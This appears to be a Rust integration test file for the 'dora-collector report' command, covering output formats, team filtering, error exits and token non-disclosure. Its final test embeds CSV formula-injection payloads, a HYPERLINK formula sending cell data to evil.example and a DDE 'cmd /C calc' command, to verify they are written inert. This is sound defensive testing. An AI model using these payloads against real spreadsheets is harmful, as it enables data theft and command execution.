//! `dora-collector report` as a user runs it: the real binary over the fixture
//! store, every format, `--output`, `--team`, and a clear error with a non-zero
//! exit for every bad argument, a missing store and an unknown team.

use crate::report_fixture;

use report_fixture::{Fixture, TOKEN, UNTIL_DATE};
use std::path::Path;
use std::process::{Command, Output};

const BINARY: &str = env!("CARGO_BIN_EXE_dora-collector");

fn run(config: &Path, args: &[&str], token: Option<&str>) -> Output {
    let mut command = Command::new(BINARY);
    command
        .arg("report")
        .arg("--config")
        .arg(config)
        .args(args)
        .env_remove("RUST_LOG");
    match token {
        Some(token) => command.env("GITHUB_TOKEN", token),
        None => command.env_remove("GITHUB_TOKEN"),
    };
    command.output().expect("run dora-collector")
}

fn stdout(output: &Output) -> String {
    String::from_utf8(output.stdout.clone()).expect("UTF-8")
}

fn stderr(output: &Output) -> String {
    String::from_utf8(output.stderr.clone()).expect("UTF-8")
}

fn assert_no_token(output: &Output) {
    for text in [stdout(output), stderr(output)] {
        assert!(!text.contains(TOKEN), "the token was printed");
    }
}

#[test]
fn every_format_on_stdout() {
    let fixture = Fixture::new();
    for (format, starts) in [
        ("markdown", "# DORA report: organisation, 30d to 2026-03-31"),
        ("html", "<!doctype html>"),
        ("json", "{"),
        ("csv", "scope,name,team,environment,"),
    ] {
        let output = run(
            &fixture.config_path(),
            &["--until", UNTIL_DATE, "--format", format],
            Some(TOKEN),
        );
        assert!(output.status.success(), "{format}: {}", stderr(&output));
        assert!(stdout(&output).starts_with(starts), "{format}");
        assert_no_token(&output);
    }
    // The default format is Markdown, the default window 30 days.
    let output = run(
        &fixture.config_path(),
        &["--until", UNTIL_DATE],
        Some(TOKEN),
    );
    assert!(output.status.success());
    assert!(stdout(&output).starts_with("# DORA report: organisation, 30d to 2026-03-31"));
}

#[test]
fn json_from_the_binary_matches_the_library() {
    let fixture = Fixture::new();
    let output = run(
        &fixture.config_path(),
        &[
            "--until",
            "2026-03-31T23:59:59Z",
            "--window",
            "7d",
            "--format",
            "json",
        ],
        Some(TOKEN),
    );
    assert!(output.status.success(), "{}", stderr(&output));
    let from_binary: dora_collector::report::Report =
        serde_json::from_slice(&output.stdout).expect("valid JSON");
    let store = dora_collector::store::SqliteStore::open(fixture.store_path()).unwrap();
    let request = dora_collector::report::ReportRequest {
        window: dora_collector::report::ReportWindow::parse("7d").unwrap(),
        until: report_fixture::UNTIL,
        team: None,
        // The binary's generation time is its clock.
        generated_at: from_binary.generated_at,
    };
    let expected = dora_collector::report::generate(&store, &fixture.config(), &request).unwrap();
    assert_eq!(from_binary, expected);
}

#[test]
fn output_file_and_team_filter() {
    let fixture = Fixture::new();
    let path = fixture.dir.path().join("payments.csv");
    let output = run(
        &fixture.config_path(),
        &[
            "--until",
            UNTIL_DATE,
            "--team",
            "payments",
            "--format",
            "csv",
            "--output",
            path.to_str().unwrap(),
        ],
        Some(TOKEN),
    );
    assert!(output.status.success(), "{}", stderr(&output));
    assert_eq!(stdout(&output), "", "the report went to the file");
    let csv = std::fs::read_to_string(&path).unwrap();
    let names: Vec<String> = csv
        .lines()
        .skip(1)
        .map(|l| l.split(',').take(2).collect::<Vec<_>>().join(","))
        .collect();
    assert_eq!(
        names,
        [
            "team,payments",
            "repository,acme/api",
            "repository,acme/billing"
        ]
    );
}

#[test]
fn works_without_the_token_it_does_not_need() {
    let fixture = Fixture::new();
    let output = run(&fixture.config_path(), &["--until", UNTIL_DATE], None);
    assert!(output.status.success(), "{}", stderr(&output));
}

#[test]
fn an_unset_variable_outside_the_token_is_still_an_error() {
    let fixture = Fixture::new();
    let text = std::fs::read_to_string(fixture.config_path())
        .unwrap()
        .replace(
            &format!("path = \"{}\"", fixture.store_path().display()),
            "path = \"${DORA_REPORT_TEST_UNSET_DIR}/dora.db\"",
        );
    let config = fixture.dir.path().join("unset.toml");
    std::fs::write(&config, text).unwrap();
    let output = run(&config, &[], None);
    assert_eq!(output.status.code(), Some(2));
    let err = stderr(&output);
    assert!(
        err.contains("environment variable DORA_REPORT_TEST_UNSET_DIR is not set"),
        "{err}"
    );
}

/// Runs with `args`, expects exit status `code` and one error naming `needle`.
fn assert_fails(fixture: &Fixture, args: &[&str], code: i32, needle: &str) {
    let output = run(&fixture.config_path(), args, Some(TOKEN));
    assert_eq!(
        output.status.code(),
        Some(code),
        "{args:?}: {}",
        stderr(&output)
    );
    assert_eq!(stdout(&output), "", "{args:?}");
    let err = stderr(&output);
    assert!(err.contains(needle), "{args:?}: {err}");
    assert_no_token(&output);
}

#[test]
fn bad_arguments_are_clear_errors() {
    let fixture = Fixture::new();
    assert_fails(&fixture, &["--window", "30"], 2, "from 1h to 366d");
    assert_fails(&fixture, &["--window", "400d"], 2, "from 1h to 366d");
    assert_fails(&fixture, &["--window", "0d"], 2, "--window");
    assert_fails(&fixture, &["--until", "yesterday"], 2, "RFC 3339");
    assert_fails(&fixture, &["--until", "2026-02-30"], 2, "--until");
    assert_fails(
        &fixture,
        &["--format", "pdf"],
        2,
        "possible values: markdown, html, json, csv",
    );
    assert_fails(&fixture, &["--team", ""], 2, "team name");
    assert_fails(
        &fixture,
        &["--team", "nobody"],
        1,
        "error: team \"nobody\" is not in the configuration; its teams are: \"payments\", \"web\"",
    );
}

#[test]
fn a_missing_store_is_an_error_and_stays_missing() {
    let fixture = Fixture::new();
    let missing = fixture.dir.path().join("nowhere").join("dora.db");
    let text = std::fs::read_to_string(fixture.config_path())
        .unwrap()
        .replace(
            &fixture.store_path().display().to_string(),
            &missing.display().to_string(),
        );
    let config = fixture.dir.path().join("missing.toml");
    std::fs::write(&config, text).unwrap();
    let output = run(&config, &[], Some(TOKEN));
    assert_eq!(output.status.code(), Some(1));
    let err = stderr(&output);
    assert!(err.starts_with("error: the store "), "{err}");
    assert!(err.contains("does not exist"), "{err}");
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(!missing.exists());
    assert!(!missing.parent().unwrap().exists());
}

#[test]
fn an_unwritable_output_names_the_file() {
    let fixture = Fixture::new();
    let path = fixture.dir.path().join("no-such-dir").join("report.md");
    let output = run(
        &fixture.config_path(),
        &["--output", path.to_str().unwrap()],
        Some(TOKEN),
    );
    assert_eq!(output.status.code(), Some(1));
    assert!(
        stderr(&output).contains("cannot write the report to"),
        "{}",
        stderr(&output)
    );
}

/// Team names a spreadsheet would run as formulas (issue 19): the real binary's
/// CSV writes them with a leading `'`, and leaves the number cells numbers.
#[test]
fn csv_cells_a_spreadsheet_would_run_are_written_inert() {
    const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    const CMD: &str = "-2+3+cmd|' /C calc'!A0";
    let fixture = Fixture::new();
    let text = std::fs::read_to_string(fixture.config_path())
        .unwrap()
        .replace("team = \"payments\"", &format!("team = {HYPERLINK:?}"))
        .replace("team = \"web\"", &format!("team = {CMD:?}"));
    std::fs::write(fixture.config_path(), text).unwrap();
    let output = run(
        &fixture.config_path(),
        &["--until", UNTIL_DATE, "--format", "csv"],
        Some(TOKEN),
    );
    assert!(output.status.success(), "{}", stderr(&output));
    let csv = stdout(&output);
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let header = reader.headers().unwrap().clone();
    let column = |name: &str| header.iter().position(|c| c == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let teams: std::collections::BTreeSet<&str> = rows.iter().map(|r| &r[column("team")]).collect();
    assert_eq!(
        teams,
        ["", &format!("'{CMD}") as &str, &format!("'{HYPERLINK}")]
            .into_iter()
            .collect(),
        "{csv}"
    );
    let team_rows: Vec<&str> = rows
        .iter()
        .filter(|r| &r[column("scope")] == "team")
        .map(|r| &r[column("name")])
        .collect();
    assert_eq!(team_rows.len(), 2, "{csv}");
    for row in &rows {
        for (name, cell) in header.iter().zip(row.iter()) {
            let starts_formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
            let is_number = cell.parse::<f64>().is_ok();
            assert!(
                !starts_formula || is_number,
                "{name} = {cell:?} would start a formula in\n{csv}"
            );
        }
    }
}
